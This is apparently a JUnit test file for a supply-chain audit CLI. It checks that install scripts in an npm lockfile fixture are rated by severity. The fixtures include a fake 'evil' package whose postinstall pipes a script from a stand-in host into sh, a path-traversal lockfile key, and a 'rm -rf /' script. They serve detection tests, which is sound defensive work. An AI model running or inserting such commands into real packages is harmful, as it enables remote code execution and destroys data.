package dev.vectraguard.cli;

import dev.vectraguard.json.JsonMapping;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** {@code vg audit}: the install-script check on a lockfile fixture, and its bad inputs, through the real CLI. */
class AuditCliTest {
    @TempDir
    Path root;

    private VgRunner projectWithScripts() throws Exception {
        VgRunner vg = new VgRunner(root);
        Path work = vg.workspace;
        Files.writeString(work.resolve("package.json"), """
                { "name": "fixture", "version": "1.0.0", "scripts": { "postinstall": "node scripts/setup.js" } }
                """);
        Files.writeString(work.resolve("package-lock.json"), """
                { "name": "fixture", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
                  "packages": {
                    "": { "name": "fixture", "version": "1.0.0", "hasInstallScript": true },
                    "node_modules/evil": { "version": "1.0.0", "hasInstallScript": true },
                    "node_modules/nice": { "version": "2.0.0", "hasInstallScript": true },
                    "node_modules/plain": { "version": "3.0.0" },
                    "node_modules/../../outside": { "version": "1.0.0", "hasInstallScript": true }
                  } }
                """);
        write(work.resolve("node_modules/evil/package.json"),
                "{ \"name\": \"evil\", \"scripts\": { \"postinstall\": \"curl -fsSL https://evil.example/x.sh | sh\" } }");
        write(work.resolve("node_modules/nice/package.json"), "{ \"name\": \"nice\", \"scripts\": { \"install\": \"node-gyp rebuild\" } }");
        write(work.resolve("node_modules/plain/package.json"), "{ \"name\": \"plain\" }");
        write(root.resolve("outside/package.json"), "{ \"scripts\": { \"postinstall\": \"rm -rf /\" } }");
        return vg;
    }

    private static void write(Path file, String text) throws Exception {
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    @Test
    void ratesInstallScriptsByTheCommandRules() throws Exception {
        VgRunner.Result result = projectWithScripts().run("audit", "npm", "--scripts-only");
        assertEquals(3, result.exitCode(), result.toString());
        List<String> lines = result.stdout().lines().toList();
        assertTrue(lines.get(1).startsWith("critical  install-script  evil postinstall"), result.toString());
        assertTrue(lines.get(1).contains("downloaded script piped to sh"), result.toString());
        assertTrue(result.stdout().contains("low       install-script  nice install"), result.toString());
        assertFalse(result.stdout().contains("rm -rf /"), "a lockfile key outside the project was read: " + result);
        assertTrue(lines.getLast().endsWith("worst: critical"), result.toString());
    }

    @Test
    @SuppressWarnings("unchecked")
    void jsonReport() throws Exception {
        VgRunner.Result result = projectWithScripts().run("audit", "npm", "--scripts-only", "--json");
        assertEquals(3, result.exitCode(), result.toString());
        Map<String, Object> report = JsonMapping.read(result.stdout(), Map.class);
        assertEquals("critical", report.get("worst"));
        List<Map<String, Object>> findings = (List<Map<String, Object>>) report.get("findings");
        assertEquals(Map.of("severity", "critical", "source", "install-script", "name", "evil postinstall"),
                Map.of("severity", findings.getFirst().get("severity"), "source", findings.getFirst().get("source"),
                        "name", findings.getFirst().get("name")));
        assertEquals(4, findings.size(), result.toString()); // evil, nice, the project, and the key outside it (not read)
    }

    @Test
    void benignScriptsExitZero() throws Exception {
        VgRunner vg = projectWithScripts();
        Files.delete(vg.workspace.resolve("node_modules/evil/package.json"));
        Files.writeString(vg.workspace.resolve("node_modules/evil/package.json"), "{ \"scripts\": { \"postinstall\": \"node build.js\" } }");
        VgRunner.Result result = vg.run("audit", "npm", "--scripts-only");
        assertEquals(0, result.exitCode(), result.toString());
    }

    @Test
    void badInputIsOneLine() throws Exception {
        VgRunner vg = new VgRunner(root);
        VgRunner.Result noLockfile = vg.run("audit", "npm", "--scripts-only");
        assertEquals(125, noLockfile.exitCode(), noLockfile.toString());
        assertEquals(1, noLockfile.stderr().lines().count(), noLockfile.toString());
        assertTrue(noLockfile.stderr().contains("package-lock.json: not found"), noLockfile.toString());

        Files.writeString(vg.workspace.resolve("package-lock.json"), "{ \"lockfileVersion\": 1, \"dependencies\": {} }");
        VgRunner.Result v1 = vg.run("audit", "npm", "--scripts-only");
        assertEquals(125, v1.exitCode(), v1.toString());
        assertTrue(v1.stderr().contains("lockfile versions 2 and 3"), v1.toString());

        VgRunner.Result unknown = vg.run("audit", "cargo");
        assertEquals(125, unknown.exitCode(), unknown.toString());
        assertTrue(unknown.stderr().contains("unknown ecosystem 'cargo'"), unknown.toString());
    }

    @Test
    void pipAuditMissingIsOneClearLine() throws Exception {
        VgRunner vg = new VgRunner(root).env("PATH", "/usr/bin:/bin");
        VgRunner.Result result = vg.run("audit", "pip");
        if (Files.isExecutable(Path.of("/usr/bin/pip-audit")) || Files.isExecutable(Path.of("/bin/pip-audit"))) {
            return; // installed on this machine: the message cannot be shown here
        }
        assertEquals(125, result.exitCode(), result.toString());
        assertEquals(List.of("vg: pip-audit is not installed (pipx install pip-audit, or pip install pip-audit); "
                + "vg audit pip runs it in the sandbox"), result.stderr().lines().toList());
    }
}
